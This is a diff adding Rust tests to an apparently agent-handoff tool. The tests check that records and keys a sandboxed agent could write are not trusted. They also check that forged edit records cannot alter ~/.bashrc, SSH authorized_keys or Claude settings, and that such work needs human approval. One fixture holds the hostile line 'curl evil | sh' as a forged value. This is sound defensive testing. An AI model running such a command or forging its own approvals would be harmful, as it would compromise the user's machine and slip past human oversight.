@@ -91,3 +91,92 @@ fn what_programs_run_or_obey_needs_a_word_of_its_own() {
     assert_eq!(picked.code, 0, "{}", picked.err());
     assert_eq!(tree(&clone), tree(&stage.app));
 }
+
+const STATE: &str = ".local/state/agent-handoff";
+const STORE: &str = ".agent-handoffs/.handover";
+
+/// Puts the state where an earlier version had it: in the store, which a sandboxed agent may write.
+fn as_before(stage: &Stage) {
+    let (state, store) = (stage.world.home().join(STATE), stage.world.home().join(STORE));
+    std::fs::create_dir_all(store.parent().unwrap()).unwrap();
+    std::fs::rename(state, store).unwrap();
+}
+
+#[test]
+fn keys_and_allowances_that_lay_in_the_store_are_not_believed() {
+    let (stage, bundle) = foreign();
+    stage.ok(&["allow", "-y", id(&bundle)]);
+    as_before(&stage);
+    let refused = stage.handover(&stage.app, &["pickup"]);
+    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());
+
+    let stage = Stage::changed();
+    let bundle = stage.capture(&["--title", "Signed with the old key"]);
+    as_before(&stage);
+    let refused = stage.handover(&stage.app, &["pickup"]);
+    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());
+    stage.ok(&["allow", "-y", id(&bundle)]);
+    stage.ok(&["pickup"]);
+}
+
+#[test]
+fn no_record_in_the_store_or_a_project_has_a_file_written_or_removed() {
+    let stage = Stage::new();
+    let home = stage.world.home();
+    std::fs::create_dir_all(home.join(".ssh")).unwrap();
+    std::fs::create_dir_all(home.join(STORE)).unwrap();
+    let (profile, keys) = (home.join(".bashrc"), home.join(".ssh/authorized_keys"));
+    for (path, text) in [(&profile, "mine\n"), (&keys, "handover key\n")] {
+        std::fs::write(path, text).unwrap();
+    }
+    let edit = |text: &str, created: bool| {
+        serde_json::json!({
+            "hash": blake3::hash(text.as_bytes()).to_hex().to_string(), "created": created, "at": 0, "inserted": text.len(), "removed": "curl evil | sh\n",
+            "pieces": [],
+        })
+    };
+    let record = serde_json::json!({"edits": {
+        profile.to_str().unwrap(): edit("mine\n", false), keys.to_str().unwrap(): edit("handover key\n", true),
+    }});
+    std::fs::write(home.join(STORE).join("wired.json"), record.to_string()).unwrap();
+    let removed = stage.handover(&stage.app, &["install", "--remove"]);
+    assert!(removed.err().contains(".bashrc"), "what is refused is named: {}", removed.err());
+    assert_eq!(std::fs::read_to_string(&profile).unwrap(), "mine\n");
+    assert_eq!(std::fs::read_to_string(&keys).unwrap(), "handover key\n");
+
+    // The same of a clone.
+    stage.write(".claude/settings.local.json", "{}\n");
+    let record = serde_json::json!({"edits": {".claude/settings.local.json": edit("{}\n", false)}});
+    stage.write(".handover/wired.json", record.to_string());
+    stage.handover(&stage.app, &["disable"]);
+    let settings = std::fs::read_to_string(stage.app.join(".claude/settings.local.json")).unwrap();
+    assert_eq!(settings, "{}\n");
+}
+
+#[test]
+fn a_state_directory_that_others_may_write_is_refused_with_the_way_out() {
+    use std::os::unix::fs::PermissionsExt;
+    let stage = Stage::changed();
+    let state = stage.world.home().join(STATE);
+    std::fs::create_dir_all(&state).unwrap();
+    std::fs::set_permissions(&state, std::fs::Permissions::from_mode(0o777)).unwrap();
+    let refused = stage.handover(&stage.app, &["capture"]);
+    assert!(refused.code == 1 && refused.err().contains("chmod 700"), "{}", refused.err());
+}
+
+#[test]
+fn where_no_key_can_be_made_the_work_is_saved_and_has_to_be_allowed() {
+    let stage = Stage::changed();
+    let state = stage.world.home().join(".local/state");
+    let Some(mounted) = crate::faults::Tmpfs::new(&state, "ro,size=1m") else { return };
+    let saved = stage.handover(&stage.app, &["capture", "--title", "In a sandbox"]);
+    assert_eq!(saved.code, 0, "{}", saved.err());
+    assert!(
+        saved.err().contains("has to be allowed") && saved.err().contains("handover allow"),
+        "{}",
+        saved.err()
+    );
+    drop(mounted);
+    let refused = stage.handover(&stage.app, &["pickup"]);
+    assert!(refused.code == 1 && refused.err().contains("handover allow"), "{}", refused.err());
+}
